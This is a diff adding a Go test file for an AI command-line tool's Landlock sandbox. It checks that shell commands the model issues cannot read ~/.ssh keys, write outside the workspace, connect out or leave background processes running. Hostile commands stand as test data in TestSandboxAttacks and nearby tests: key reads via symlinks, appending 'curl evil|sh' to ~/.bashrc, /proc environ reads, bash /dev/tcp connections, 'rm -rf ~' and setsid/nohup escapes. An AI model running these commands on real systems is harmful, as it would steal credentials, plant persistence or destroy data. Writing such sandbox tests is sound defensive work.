@@ -1,0 +1,454 @@
+//go:build linux
+
+package main
+
+import (
+	"context"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// fencedRun is one command's result from runShell, read off the text the
+// model is given (shellHeader's lines, then the output).
+type fencedRun struct {
+	Output string
+	Code   int
+	Error  string
+}
+
+// sandboxHome makes a home directory outside the temporary directories (a
+// real home is not under /tmp, which fenced commands may write) with a key
+// in ~/.ssh and a workspace in ~/proj; it returns the config of a run
+// started there with default settings.
+func sandboxHome(t *testing.T) *config {
+	t.Helper()
+	if landlockABI() < 1 {
+		t.Skip("no Landlock in this kernel")
+	}
+	base, err := os.MkdirTemp(".", ".sandboxtest-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	home, _ := filepath.Abs(base)
+	ws := filepath.Join(home, "proj")
+	for _, d := range []string{filepath.Join(home, ".ssh"), ws} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("PRIVATE-KEY-BYTES\n"), 0o600)
+	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
+	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
+	env := []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "SHELL=/bin/sh", "GOCACHE=" + strings.TrimSpace(string(gocache)),
+		"GOTOOLCHAIN=local", "GOFLAGS=", "TMPDIR=/tmp", "OPENAI_API_KEY=sk-sandboxtest-0123456789abcdef"}
+	cfg, err := loadConfig(configSources{env: envLookup(env), home: home, workDir: ws, environ: env, cacheDir: filepath.Join(home, ".cache"),
+		tmpDir: "/tmp", uid: os.Getuid(), now: time.Now, path: filepath.Join(home, ".config", "yaicli", "config.ini")}, io.Discard)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cfg
+}
+
+// envLookup reads a variable from environ.
+func envLookup(environ []string) func(string) string {
+	return func(k string) string { return envValue(environ, k) }
+}
+
+// runFenced runs command as a call nobody was asked about (fenced under
+// the default SANDBOX=auto) or, with fenced false, unfenced.
+func runFenced(t *testing.T, cfg *config, command string, fenced bool) fencedRun {
+	t.Helper()
+	self, _ := os.Executable()
+	ctx := context.Background()
+	if !fenced {
+		ctx = withAsked(ctx)
+	}
+	cl := newClipper(0, nil)
+	if err := runShell(ctx, command, cfg.workDir, time.Minute, cfg.shellEnv(), newSandbox(cfg, self).start(ctx), resultWriter{w: cl, c: cl}); err != nil {
+		t.Fatalf("runShell(%q): %v", command, err)
+	}
+	text := cl.finish().modelText()
+	head, output, _ := strings.Cut(text, "output:\n")
+	r := fencedRun{Output: output, Code: -1}
+	for _, line := range strings.Split(head, "\n") {
+		if v, ok := strings.CutPrefix(line, "exit code: "); ok {
+			r.Code, _ = strconv.Atoi(v)
+		}
+		if v, ok := strings.CutPrefix(line, "error: "); ok {
+			r.Error = v
+		}
+	}
+	if r.Code == -1 {
+		t.Fatalf("result of %q has no exit code:\n%s", command, text)
+	}
+	return r
+}
+
+// TestSandboxAttacks runs each attack fenced (it must fail) and unfenced
+// (it must work, so the test can fail).
+func TestSandboxAttacks(t *testing.T) {
+	cfg := sandboxHome(t)
+	home := cfg.homeDir
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
+	attacks := []struct{ name, cmd, leak string }{
+		{"read ~/.ssh key", "cat ~/.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
+		{"read ~/.ssh through ..", "cat proj/../.ssh/id_ed25519 2>&1; cd ..; cat ./.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
+		{"list ~/.ssh", "ls ~/.ssh", "id_ed25519"},
+		{"link to ~/.ssh in the workspace", "ln -s ~/.ssh keys && cat keys/id_ed25519", "PRIVATE-KEY-BYTES"},
+		{"hard link of the key", "ln ~/.ssh/id_ed25519 k 2>/dev/null; cat k", "PRIVATE-KEY-BYTES"},
+		{"write beside the workspace", "echo PLANTED > ~/planted && cat ~/planted", "PLANTED"},
+		{"append to ~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc; cat ~/.bashrc", "curl evil"},
+		{"write /etc", "echo x > /etc/yaicli-sandbox-test && echo wrote", "wrote"},
+		{"read yaicli's environ", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/environ > /dev/null && echo ENVIRON-READ", "ENVIRON-READ"},
+		{"read yaicli's memory maps", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/maps > /dev/null && echo MAPS-READ", "MAPS-READ"},
+		{"connect out (bash /dev/tcp)", "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo connected", "connected"},
+		{"write to the terminal", "ls -l /proc/$$/fd/ >/dev/null; for t in /dev/tty /dev/pts/*; do echo x 2>/dev/null > $t && echo TTY-WRITTEN; done; true", "TTY-WRITTEN"},
+		{"bind a port", "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); print(\"bound\")'", "bound"},
+	}
+	t.Cleanup(func() { os.Remove("/etc/yaicli-sandbox-test"); os.Remove(filepath.Join(home, "planted")) })
+	unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0) // as yaicli's main makes itself; the test process stands for yaicli
+	t.Cleanup(func() { unix.Prctl(unix.PR_SET_DUMPABLE, 1, 0, 0, 0) })
+	for _, a := range attacks {
+		t.Run(a.name, func(t *testing.T) {
+			if prog := strings.Fields(a.cmd)[0]; prog == "python3" || prog == "bash" {
+				if _, err := exec.LookPath(prog); err != nil {
+					t.Skipf("no %s here", prog)
+				}
+			}
+			if got := runFenced(t, cfg, a.cmd, true); strings.Contains(got.Output, a.leak) {
+				t.Errorf("fenced %q printed %q (want no %q)", a.cmd, got.Output, a.leak)
+			}
+			if strings.Contains(a.name, "hard link") || strings.Contains(a.name, "terminal") || strings.Contains(a.name, "through ..") && os.Getuid() != 0 {
+				return // unfenced, these work only in some setups; the fenced half is what matters
+			}
+			if got := runFenced(t, cfg, a.cmd, false); !strings.Contains(got.Output, a.leak) {
+				t.Errorf("unfenced %q printed %q, want %q: the attack does not work even without the sandbox", a.cmd, got.Output, a.leak)
+			}
+			os.Remove(filepath.Join(cfg.workDir, "keys"))
+			os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
+		})
+	}
+}
+
+// TestSandboxNoWorkspaceAbove: started in $HOME or /, a fenced command has
+// no workspace to write, and rm -rf ~ removes nothing of the home.
+func TestSandboxNoWorkspaceAbove(t *testing.T) {
+	cfg := sandboxHome(t)
+	os.WriteFile(filepath.Join(cfg.homeDir, "notes.txt"), []byte("mine\n"), 0o600)
+	for _, dir := range []string{cfg.homeDir, "/"} {
+		c := *cfg
+		c.workDir = dir
+		got := runFenced(t, &c, "rm -rf ~ 2>/dev/null; echo x > ~/new 2>/dev/null; cat ~/notes.txt ~/new", true)
+		if !strings.Contains(got.Output, "mine") || strings.Contains(got.Output, "x\n") {
+			t.Errorf("started in %s, rm -rf ~ and a write left the home as %q", dir, got.Output)
+		}
+	}
+	got := runFenced(t, cfg, "rm -rf ~ 2>/dev/null; cat ~/notes.txt", true)
+	if !strings.Contains(got.Output, "mine") {
+		t.Errorf("started in ~/proj, rm -rf ~ removed the home's own files: %q", got.Output)
+	}
+}
+
+// TestSandboxOrdinaryWork runs what a fenced command must still do.
+func TestSandboxOrdinaryWork(t *testing.T) {
+	cfg := sandboxHome(t)
+	ws := cfg.workDir
+	os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module tiny\n\ngo 1.21\n"), 0o600)
+	os.WriteFile(filepath.Join(ws, "main.go"), []byte("package main\n\nfunc main() { println(\"tiny\") }\n"), 0o600)
+	if out, err := exec.Command("git", "-C", ws, "init", "-q").CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v %s", err, out)
+	}
+	work := []struct{ cmd, want string }{
+		{"go build -o tiny . && ./tiny 2>&1", "tiny"},
+		{"git status --short", "?? go.mod"},
+		{"ls", "main.go"},
+		{"echo hello | tr a-z A-Z | sed s/H/J/", "JELLO"},
+		{"mkdir -p sub/dir && echo ok > sub/dir/f && rm -r sub && echo removed", "removed"},
+		{"f=$(mktemp) && echo tmp > $f && cat $f && rm $f", "tmp"},
+		{"cat /etc/hostname >/dev/null && head -c 4 /dev/urandom | wc -c", "4"},
+		{"ls /usr/bin | head -1 >/dev/null && echo listed", "listed"},
+	}
+	for _, w := range work {
+		t.Run(w.cmd, func(t *testing.T) {
+			if got := runFenced(t, cfg, w.cmd, true); got.Code != 0 || !strings.Contains(got.Output, w.want) {
+				t.Errorf("fenced %q = exit %d %q %s, want exit 0 and %q", w.cmd, got.Code, got.Output, got.Error, w.want)
+			}
+		})
+	}
+}
+
+// cancelOn is a writer that cancels when the text it is waiting for has
+// been written.
+type cancelOn struct {
+	strings.Builder
+	want   string
+	cancel context.CancelFunc
+}
+
+// Write records p and cancels once want is in it.
+func (c *cancelOn) Write(p []byte) (int, error) {
+	c.Builder.Write(p)
+	if strings.Contains(c.String(), c.want) {
+		c.cancel()
+	}
+	return len(p), nil
+}
+
+// leftWith lists the processes whose command line holds marker.
+func leftWith(marker string) []string {
+	var out []string
+	ents, _ := os.ReadDir("/proc")
+	for _, e := range ents {
+		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
+		if err == nil && strings.Contains(string(b), marker) {
+			out = append(out, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
+		}
+	}
+	return out
+}
+
+// descendantCases are commands whose children leave the shell's process
+// group (setsid, double forks, nohup); 1000.%d becomes a marker.
+var descendantCases = []struct {
+	name, cmd string
+	timeout   time.Duration
+	cancel    bool
+}{
+	{"setsid at the end", "setsid sleep 1000.%d & echo started", time.Minute, false},
+	{"double fork, setsid, nohup", "(setsid sh -c 'nohup sleep 1000.%d >/dev/null 2>&1 &' &); echo started", time.Minute, false},
+	{"setsid at timeout", "setsid sleep 1000.%d & sleep 1000", 300 * time.Millisecond, false},
+	{"setsid at Ctrl+C", "setsid sleep 1000.%d & echo started; sleep 1000", time.Minute, true},
+	{"daemon holding the pipe", "setsid sh -c 'while :; do sleep 1000.%d; done' & echo started", time.Minute, false},
+}
+
+// TestEveryDescendantEnds checks no descendant is left after the command
+// ends, times out or is cancelled, fenced or not.
+func TestEveryDescendantEnds(t *testing.T) {
+	cfg := sandboxHome(t)
+	self, _ := os.Executable()
+	for i, c := range descendantCases {
+		for _, fenced := range []bool{true, false} {
+			t.Run(c.name+map[bool]string{true: " fenced", false: " unfenced"}[fenced], func(t *testing.T) {
+				marker := strconv.Itoa(1000+i) + "." + strconv.Itoa(os.Getpid()) + map[bool]string{true: "1", false: "2"}[fenced]
+				ctx, cancel := context.WithCancel(context.Background())
+				defer cancel()
+				if !fenced {
+					ctx = withAsked(ctx)
+				}
+				out := &cancelOn{want: "started", cancel: func() {}}
+				if c.cancel {
+					out.cancel = cancel
+				}
+				cmd := strings.Replace(c.cmd, "1000.%d", marker, 1)
+				if err := runShell(ctx, cmd, cfg.workDir, c.timeout, cfg.shellEnv(), newSandbox(cfg, self).start(ctx), out); err != nil {
+					t.Fatal(err)
+				}
+				if left := leftWith(marker); len(left) > 0 {
+					t.Errorf("%q left %v running after the tool ended (%s)", cmd, left, out.String())
+					for _, l := range left {
+						pid, _ := strconv.Atoi(strings.SplitN(l, ":", 2)[0])
+						unix.Kill(pid, unix.SIGKILL)
+					}
+				}
+			})
+		}
+	}
+}
+
+// TestKeyNotInEnvironBlock starts yaicli with provider keys in its
+// environment and reads /proc/<pid>/environ as a child (or anyone with
+// ptrace rights over it) would: the values are blanked once main starts.
+func TestKeyNotInEnvironBlock(t *testing.T) {
+	env, _ := e2eEnv(t, nil, e2e{})
+	keys := []string{"OPENAI_API_KEY=sk-proc-environ-0123456789", "ANTHROPIC_API_KEY=sk-ant-environ-0123456789", "YAI_API_KEY=sk-yai-environ-0123456789"}
+	cmd := exec.Command(binary, "hello")
+	cmd.Env = append(env, keys...)
+	stdin, err := cmd.StdinPipe() // held open: yaicli waits for the rest of its input
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	defer func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() }()
+	var block string
+	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); {
+		b, _ := os.ReadFile("/proc/" + strconv.Itoa(cmd.Process.Pid) + "/environ")
+		if block = string(b); strings.Contains(block, "OPENAI_API_KEY=xxxx") {
+			break
+		}
+		runtime.Gosched()
+	}
+	for _, k := range keys {
+		if _, v, _ := strings.Cut(k, "="); strings.Contains(block, v) {
+			t.Errorf("/proc/<yaicli>/environ still holds %s", k)
+		}
+	}
+	if !strings.Contains(block, "HOME=") {
+		t.Errorf("the environment block lost its other variables: %q", block)
+	}
+}
+
+// TestChildrenGetNoProviderKey checks the shell's and an MCP server's
+// environment: no provider's key variable, in use or not, unless the MCP
+// server's env names it.
+func TestChildrenGetNoProviderKey(t *testing.T) {
+	cfg := sandboxHome(t)
+	environ := append(cfg.shellEnv(), "ANTHROPIC_API_KEY=sk-ant-other", "GEMINI_API_KEY=g-other", "HF_TOKEN=hf_other", "API_KEY=plain")
+	cases := []struct {
+		name string
+		keep map[string]string
+		want []string // variables that must be there
+	}{
+		{"shell", nil, nil},
+		{"mcp naming GEMINI_API_KEY", map[string]string{"GEMINI_API_KEY": "g-other"}, []string{"GEMINI_API_KEY"}},
+	}
+	for _, c := range cases {
+		got := strings.Join(cfg.childEnv(environ, c.keep), "\n")
+		for _, v := range providerKeyVars() {
+			if strings.Contains(got, "\n"+v+"=") && !slices.Contains(c.want, v) {
+				t.Errorf("%s: child environment holds %s", c.name, v)
+			}
+		}
+		for _, v := range c.want {
+			if !strings.Contains(got, v+"=") {
+				t.Errorf("%s: child environment lost %s, which its env names", c.name, v)
+			}
+		}
+	}
+}
+
+// TestBlankValues checks the environment block rewrite keeps its length
+// and every other variable.
+func TestBlankValues(t *testing.T) {
+	block := []byte("A=1\x00OPENAI_API_KEY=sk-1\x00OPENAI_API_KEY_X=keep\x00B=2\x00")
+	want := "A=1\x00OPENAI_API_KEY=xxxx\x00OPENAI_API_KEY_X=keep\x00B=2\x00"
+	if !blankValues(block, []string{"OPENAI_API_KEY"}) || string(block) != want {
+		t.Errorf("blankValues = %q, want %q", block, want)
+	}
+}
+
+// TestSandboxFallback: where Landlock is missing, SANDBOX=auto runs the
+// command unfenced as before (still reaped), and strict refuses it.
+func TestSandboxFallback(t *testing.T) {
+	cfg := sandboxHome(t)
+	self, _ := os.Executable()
+	for _, tc := range []struct {
+		mode    string
+		refused bool
+	}{{"auto", false}, {"strict", true}, {"off", false}} {
+		s := newSandbox(cfg, self)
+		s.mode, s.abi = tc.mode, 0
+		st := s.start(context.Background())
+		var out strings.Builder
+		err := runShell(context.Background(), "cat ~/.ssh/id_ed25519", cfg.workDir, time.Minute, cfg.shellEnv(), st, &out)
+		if refused := err != nil; refused != tc.refused || st.fence != nil {
+			t.Errorf("SANDBOX=%s without Landlock: err %v, fence %v; want refused %v and no fence", tc.mode, err, st.fence, tc.refused)
+		}
+		if !tc.refused && !strings.Contains(out.String(), "PRIVATE-KEY-BYTES") {
+			t.Errorf("SANDBOX=%s without Landlock did not run the command as before: %s", tc.mode, out.String())
+		}
+	}
+	if !strings.Contains(sandboxStatus("auto", "off"), "sandbox:") {
+		t.Errorf("sandboxStatus = %q", sandboxStatus("auto", "off"))
+	}
+}
+
+// TestSandboxWidened: SANDBOX_WRITABLE and SANDBOX_NETWORK widen the fence
+// to what they name and no further.
+func TestSandboxWidened(t *testing.T) {
+	cfg := sandboxHome(t)
+	extra := filepath.Join(cfg.homeDir, "shared")
+	os.Mkdir(extra, 0o700)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
+	connect := "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo CONNECTED"
+	for _, tc := range []struct {
+		writable, network, cmd, want string
+		ok                           bool
+	}{
+		{extra, "off", "echo x > ~/shared/f && echo WROTE", "WROTE", true},
+		{extra, "off", "echo x > ~/other && echo WROTE", "WROTE", false},
+		{"", "on", connect, "CONNECTED", true},
+		{"", port, connect, "CONNECTED", true},
+		{"", "1", connect, "CONNECTED", false},
+	} {
+		c := *cfg
+		c.SandboxWritable, c.SandboxNetwork = []string{tc.writable}, tc.network
+		if got := runFenced(t, &c, tc.cmd, true); strings.Contains(got.Output, tc.want) != tc.ok {
+			t.Errorf("SANDBOX_WRITABLE=%s SANDBOX_NETWORK=%s %q = %q, want %q there: %v", tc.writable, tc.network, tc.cmd, got.Output, tc.want, tc.ok)
+		}
+	}
+}
+
+// BenchmarkSandboxSpec is the work yaicli does before each fenced command:
+// reading the tree to grant it child by child around the denied places.
+func BenchmarkSandboxSpec(b *testing.B) {
+	cfg := &config{Sandbox: "auto", homeDir: os.Getenv("HOME"), workDir: ".", ChatHistoryDir: "/nonexistent/chats", environ: os.Environ()}
+	s := newSandbox(cfg, "")
+	for b.Loop() {
+		s.spec()
+	}
+}
+
+// TestDescendantsEndWhenYaicliIsKilled: the built binary runs, with
+// --yes, a command whose child left its session; yaicli is then killed
+// with SIGKILL (no clean-up of its own can run) and the child must end
+// too: the wrapper is told by the parent-death signal and sweeps.
+func TestDescendantsEndWhenYaicliIsKilled(t *testing.T) {
+	d := t.TempDir()
+	marker := "1007." + strconv.Itoa(os.Getpid())
+	pg := filepath.Join(d, "pgid")
+	f := newFakeProvider(t, sse(toolStream(shellCall("setsid sleep "+marker+" & echo $$ > "+pg+"; sleep 600"))), sse(textStream("done")))
+	env, _ := e2eEnv(t, f, e2e{})
+	cmd := exec.Command(binary, "--yes", "go")
+	cmd.Env, cmd.Dir = env, d
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		for _, l := range leftWith(marker) {
+			pid, _ := strconv.Atoi(strings.SplitN(l, ":", 2)[0])
+			unix.Kill(pid, unix.SIGKILL)
+		}
+	})
+	for deadline := time.Now().Add(e2eTimeout); len(leftWith(marker)) == 0 || !shellBusy(func(string) string { return pg })(0, d); time.Sleep(10 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("the command never started")
+		}
+	}
+	cmd.Process.Kill()
+	cmd.Wait()
+	var left []string
+	for deadline := time.Now().Add(signalBound); ; time.Sleep(10 * time.Millisecond) {
+		if left = leftWith(marker); len(left) == 0 || time.Now().After(deadline) {
+			break
+		}
+	}
+	if len(left) > 0 {
+		t.Errorf("left running after yaicli was killed: %v", left)
+	}
+}
